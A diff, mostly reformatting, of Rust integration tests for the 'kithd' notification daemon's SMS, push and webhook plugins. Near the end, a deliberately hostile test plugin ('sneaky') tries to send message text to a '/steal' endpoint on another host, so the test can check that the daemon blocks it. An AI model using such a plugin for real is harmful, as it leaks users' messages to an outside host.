@@ -18,10 +18,17 @@ fn form(body: &[u8]) -> Vec<(String, String)> {
 async fn twilio_request_shape_and_gateway_id() {
     let server = MockServer::start().await;
     Mock::given(method("POST"))
-        .and(path("/2010-04-01/Accounts/AC0123456789abcdef0123456789abcdef/Messages.json"))
+        .and(path(
+            "/2010-04-01/Accounts/AC0123456789abcdef0123456789abcdef/Messages.json",
+        ))
         .and(header("content-type", "application/x-www-form-urlencoded"))
-        .and(basic_auth("AC0123456789abcdef0123456789abcdef", "tw-token-xyz"))
-        .respond_with(ResponseTemplate::new(201).set_body_json(json!({"sid": "SM42", "status": "queued"})))
+        .and(basic_auth(
+            "AC0123456789abcdef0123456789abcdef",
+            "tw-token-xyz",
+        ))
+        .respond_with(
+            ResponseTemplate::new(201).set_body_json(json!({"sid": "SM42", "status": "queued"})),
+        )
         .expect(1)
         .mount(&server)
         .await;
@@ -29,8 +36,20 @@ async fn twilio_request_shape_and_gateway_id() {
         "[channels.sms]\nplugin = \"twilio\"\naccount_sid = \"AC0123456789abcdef0123456789abcdef\"\nauth_token = {{ secret = \"twilio_token\" }}\nfrom = \"+15005550006\"\napi_base = \"{}\"\n",
         server.uri()
     ));
-    let out = sb.send_test("sms", "sam", &[("KITHD_SECRET_TWILIO_TOKEN", "tw-token-xyz")]).await;
-    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
+    let out = sb
+        .send_test(
+            "sms",
+            "sam",
+            &[("KITHD_SECRET_TWILIO_TOKEN", "tw-token-xyz")],
+        )
+        .await;
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
     assert_eq!(text(&out.stdout), "sent through `sms` (gateway id SM42)\n");
     let reqs = server.received_requests().await.unwrap();
     assert_eq!(reqs.len(), 1);
@@ -39,29 +58,43 @@ async fn twilio_request_shape_and_gateway_id() {
     assert_eq!(
         fields,
         vec![
-            ("Body".to_string(), "Time for your 50 mg, Alex. Grüße ☀".to_string()),
+            (
+                "Body".to_string(),
+                "Time for your 50 mg, Alex. Grüße ☀".to_string()
+            ),
             ("From".to_string(), "+15005550006".to_string()),
             ("To".to_string(), "+15550001111".to_string()),
         ]
     );
     // The token never shows in what kithd printed.
-    assert!(!text(&out.stdout).contains("tw-token-xyz") && !text(&out.stderr).contains("tw-token-xyz"));
+    assert!(
+        !text(&out.stdout).contains("tw-token-xyz") && !text(&out.stderr).contains("tw-token-xyz")
+    );
 }
 
 #[tokio::test]
 async fn twilio_messaging_service_and_rejection() {
     let server = MockServer::start().await;
     Mock::given(method("POST"))
-        .respond_with(ResponseTemplate::new(400).set_body_json(json!({"code": 21211, "message": "The 'To' number is not valid."})))
+        .respond_with(
+            ResponseTemplate::new(400)
+                .set_body_json(json!({"code": 21211, "message": "The 'To' number is not valid."})),
+        )
         .mount(&server)
         .await;
     let sb = Sandbox::new(&format!(
         "[channels.sms]\nplugin = \"twilio\"\naccount_sid = \"AC1\"\nauth_token = {{ secret = \"twilio_token\" }}\nmessaging_service_sid = \"MG9\"\napi_base = \"{}\"\n",
         server.uri()
     ));
-    let out = sb.send_test("sms", "self", &[("KITHD_SECRET_TWILIO_TOKEN", "t")]).await;
+    let out = sb
+        .send_test("sms", "self", &[("KITHD_SECRET_TWILIO_TOKEN", "t")])
+        .await;
     assert_eq!(out.status.code(), Some(1));
-    assert!(text(&out.stdout).starts_with("not sent, permanent failure: HTTP 400: {\"code\":21211"), "{}", text(&out.stdout));
+    assert!(
+        text(&out.stdout).starts_with("not sent, permanent failure: HTTP 400: {\"code\":21211"),
+        "{}",
+        text(&out.stdout)
+    );
     let fields = form(&server.received_requests().await.unwrap()[0].body);
     assert!(fields.contains(&("MessagingServiceSid".into(), "MG9".into())));
     assert!(!fields.iter().any(|(k, _)| k == "From"));
@@ -78,7 +111,9 @@ async fn vonage_request_shape_and_status_codes() {
         .mount(&server)
         .await;
     Mock::given(method("POST"))
-        .respond_with(ResponseTemplate::new(200).set_body_json(json!({"message-count": "1", "messages": [{"status": "1", "error-text": "Throttled"}]})))
+        .respond_with(ResponseTemplate::new(200).set_body_json(
+            json!({"message-count": "1", "messages": [{"status": "1", "error-text": "Throttled"}]}),
+        ))
         .up_to_n_times(1)
         .mount(&server)
         .await;
@@ -92,7 +127,12 @@ async fn vonage_request_shape_and_status_codes() {
     ));
     let env = [("KITHD_SECRET_VONAGE_SECRET", "vsecret123")];
     let out = sb.send_test("sms", "self", &env).await;
-    assert_eq!(text(&out.stdout), "sent through `sms` (gateway id 0A0000001234)\n", "{}", text(&out.stderr));
+    assert_eq!(
+        text(&out.stdout),
+        "sent through `sms` (gateway id 0A0000001234)\n",
+        "{}",
+        text(&out.stderr)
+    );
     let mut fields = form(&server.received_requests().await.unwrap()[0].body);
     fields.sort();
     let expected: Vec<(String, String)> = [
@@ -109,9 +149,15 @@ async fn vonage_request_shape_and_status_codes() {
     assert_eq!(fields, expected);
     let out = sb.send_test("sms", "self", &env).await;
     assert_eq!(out.status.code(), Some(69));
-    assert_eq!(text(&out.stdout), "not sent, retryable: Vonage status 1: Throttled (gateway asks to wait 30s)\n");
+    assert_eq!(
+        text(&out.stdout),
+        "not sent, retryable: Vonage status 1: Throttled (gateway asks to wait 30s)\n"
+    );
     let out = sb.send_test("sms", "self", &env).await;
-    assert_eq!(text(&out.stdout), "not sent, permanent failure: Vonage status 4: Bad Credentials\n");
+    assert_eq!(
+        text(&out.stdout),
+        "not sent, permanent failure: Vonage status 4: Bad Credentials\n"
+    );
 }
 
 #[tokio::test]
@@ -129,9 +175,18 @@ async fn ntfy_request_shape() {
         "[channels.push]\nplugin = \"ntfy\"\nserver = \"{}\"\ntoken = {{ secret = \"ntfy_token\" }}\n",
         server.uri()
     ));
-    let out = sb.send_test("push", "self", &[("KITHD_SECRET_NTFY_TOKEN", "tk_abc")]).await;
-    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
-    let body: Value = serde_json::from_slice(&server.received_requests().await.unwrap()[0].body).unwrap();
+    let out = sb
+        .send_test("push", "self", &[("KITHD_SECRET_NTFY_TOKEN", "tk_abc")])
+        .await;
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
+    let body: Value =
+        serde_json::from_slice(&server.received_requests().await.unwrap()[0].body).unwrap();
     assert_eq!(
         body,
         json!({"topic": "alex-reminders", "title": "Test", "message": "Time for your 50 mg, Alex. Grüße ☀", "priority": 3, "tags": []})
@@ -147,7 +202,11 @@ fn openssl_hmac(key: &str, body: &[u8]) -> String {
         .arg(&f)
         .output()
         .expect("openssl is needed for the independent signature check");
-    text(&out.stdout).split_whitespace().next().unwrap().to_string()
+    text(&out.stdout)
+        .split_whitespace()
+        .next()
+        .unwrap()
+        .to_string()
 }
 
 #[tokio::test]
@@ -163,35 +222,74 @@ async fn webhook_payload_idempotency_key_and_signature() {
         "[channels.hook]\nplugin = \"webhook\"\nurl = \"{}/hooks/kithd\"\nsigning_secret = {{ secret = \"hook_key\" }}\nheaders = {{ X-Team = \"blue\" }}\n",
         server.uri()
     ));
-    let out = sb.send_test("hook", "sam", &[("KITHD_SECRET_HOOK_KEY", "whsec-987")]).await;
-    assert_eq!(out.status.code(), Some(0), "{}{}", text(&out.stdout), text(&out.stderr));
+    let out = sb
+        .send_test("hook", "sam", &[("KITHD_SECRET_HOOK_KEY", "whsec-987")])
+        .await;
+    assert_eq!(
+        out.status.code(),
+        Some(0),
+        "{}{}",
+        text(&out.stdout),
+        text(&out.stderr)
+    );
     let req = &server.received_requests().await.unwrap()[0];
     let body: Value = serde_json::from_slice(&req.body).unwrap();
     let id = body["delivery_id"].as_str().unwrap().to_string();
-    assert_eq!(req.headers.get("idempotency-key").unwrap().to_str().unwrap(), id);
+    assert_eq!(
+        req.headers
+            .get("idempotency-key")
+            .unwrap()
+            .to_str()
+            .unwrap(),
+        id
+    );
     assert_eq!(req.headers.get("x-team").unwrap().to_str().unwrap(), "blue");
-    assert_eq!(req.headers.get("content-type").unwrap().to_str().unwrap(), "application/json");
+    assert_eq!(
+        req.headers.get("content-type").unwrap().to_str().unwrap(),
+        "application/json"
+    );
     assert_eq!(body["version"], 1);
     assert_eq!(body["recipient"], "sam");
     assert_eq!(body["kind"], "test");
     assert_eq!(body["text"], "Time for your 50 mg, Alex. Grüße ☀");
-    let sig = req.headers.get("x-kithd-signature").unwrap().to_str().unwrap();
-    assert_eq!(sig, format!("sha256={}", openssl_hmac("whsec-987", &req.body)));
+    let sig = req
+        .headers
+        .get("x-kithd-signature")
+        .unwrap()
+        .to_str()
+        .unwrap();
+    assert_eq!(
+        sig,
+        format!("sha256={}", openssl_hmac("whsec-987", &req.body))
+    );
 }
 
 async fn webhook_outcome(url: &str, extra: &str) -> (Option<i32>, String, Duration) {
-    let sb = Sandbox::new(&format!("[channels.hook]\nplugin = \"webhook\"\nurl = \"{url}\"\ntimeout = \"2s\"\n{extra}"));
+    let sb = Sandbox::new(&format!(
+        "[channels.hook]\nplugin = \"webhook\"\nurl = \"{url}\"\ntimeout = \"2s\"\n{extra}"
+    ));
     let t = Instant::now();
     let out = sb.send_test("hook", "self", &[]).await;
-    (out.status.code(), text(&out.stdout) + text(&out.stderr).as_str(), t.elapsed())
+    (
+        out.status.code(),
+        text(&out.stdout) + text(&out.stderr).as_str(),
+        t.elapsed(),
+    )
 }
 
 #[tokio::test]
 async fn classification_of_failures() {
     // Connection refused: a port that was free a moment ago.
-    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    let port = std::net::TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port();
     let (code, out, _) = webhook_outcome(&format!("http://127.0.0.1:{port}/x"), "").await;
-    assert_eq!((code, out.as_str()), (Some(69), "not sent, retryable: connection refused\n"));
+    assert_eq!(
+        (code, out.as_str()),
+        (Some(69), "not sent, retryable: connection refused\n")
+    );
 
     // A server that accepts and never answers: a clear timeout.
     let silent = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
@@ -203,27 +301,63 @@ async fn classification_of_failures() {
         }
     });
     let (code, out, took) = webhook_outcome(&format!("http://{addr}/x"), "").await;
-    assert_eq!((code, out.as_str()), (Some(69), "not sent, retryable: no answer within 2s\n"));
+    assert_eq!(
+        (code, out.as_str()),
+        (Some(69), "not sent, retryable: no answer within 2s\n")
+    );
     assert!(took < Duration::from_secs(10), "{took:?}");
     holder.abort();
 
     let server = MockServer::start().await;
-    Mock::given(path("/500")).respond_with(ResponseTemplate::new(500)).mount(&server).await;
-    Mock::given(path("/429")).respond_with(ResponseTemplate::new(429).insert_header("Retry-After", "120")).mount(&server).await;
-    Mock::given(path("/400")).respond_with(ResponseTemplate::new(400).set_body_string("bad field")).mount(&server).await;
+    Mock::given(path("/500"))
+        .respond_with(ResponseTemplate::new(500))
+        .mount(&server)
+        .await;
+    Mock::given(path("/429"))
+        .respond_with(ResponseTemplate::new(429).insert_header("Retry-After", "120"))
+        .mount(&server)
+        .await;
+    Mock::given(path("/400"))
+        .respond_with(ResponseTemplate::new(400).set_body_string("bad field"))
+        .mount(&server)
+        .await;
     let (code, out, _) = webhook_outcome(&format!("{}/500", server.uri()), "").await;
-    assert_eq!((code, out.as_str()), (Some(69), "not sent, retryable: HTTP 500\n"));
+    assert_eq!(
+        (code, out.as_str()),
+        (Some(69), "not sent, retryable: HTTP 500\n")
+    );
     let (code, out, _) = webhook_outcome(&format!("{}/429", server.uri()), "").await;
-    assert_eq!((code, out.as_str()), (Some(69), "not sent, retryable: HTTP 429 (gateway asks to wait 120s)\n"));
+    assert_eq!(
+        (code, out.as_str()),
+        (
+            Some(69),
+            "not sent, retryable: HTTP 429 (gateway asks to wait 120s)\n"
+        )
+    );
     let (code, out, _) = webhook_outcome(&format!("{}/400", server.uri()), "").await;
-    assert_eq!((code, out.as_str()), (Some(1), "not sent, permanent failure: HTTP 400: bad field\n"));
+    assert_eq!(
+        (code, out.as_str()),
+        (
+            Some(1),
+            "not sent, permanent failure: HTTP 400: bad field\n"
+        )
+    );
 }
 
 #[tokio::test]
 async fn a_plugins_own_on_response_and_the_one_host_rule() {
     let server = MockServer::start().await;
-    Mock::given(path("/api")).respond_with(ResponseTemplate::new(200).set_body_json(json!({"ok": false, "error": "quota"}))).mount(&server).await;
-    let sb = Sandbox::new(&format!("[channels.mine]\nplugin = \"mine\"\napi_base = \"{}\"\n\n[channels.sneaky]\nplugin = \"sneaky\"\napi_base = \"{}\"\n", server.uri(), server.uri()));
+    Mock::given(path("/api"))
+        .respond_with(
+            ResponseTemplate::new(200).set_body_json(json!({"ok": false, "error": "quota"})),
+        )
+        .mount(&server)
+        .await;
+    let sb = Sandbox::new(&format!(
+        "[channels.mine]\nplugin = \"mine\"\napi_base = \"{}\"\n\n[channels.sneaky]\nplugin = \"sneaky\"\napi_base = \"{}\"\n",
+        server.uri(),
+        server.uri()
+    ));
     sb.plugin(
         "mine.rhai",
         r#"
@@ -242,7 +376,10 @@ fn on_response(response, message, settings) {
         r#"fn send(message, settings) { #{ type: "http", url: "http://127.0.0.2:9/steal", json: #{ t: message.text } } }"#,
     );
     let out = sb.send_test("mine", "self", &[]).await;
-    assert_eq!((out.status.code(), text(&out.stdout).as_str()), (Some(1), "not sent, permanent failure: gateway said quota\n"));
+    assert_eq!(
+        (out.status.code(), text(&out.stdout).as_str()),
+        (Some(1), "not sent, permanent failure: gateway said quota\n")
+    );
     let out = sb.send_test("sneaky", "self", &[]).await;
     assert_eq!(
         text(&out.stdout),
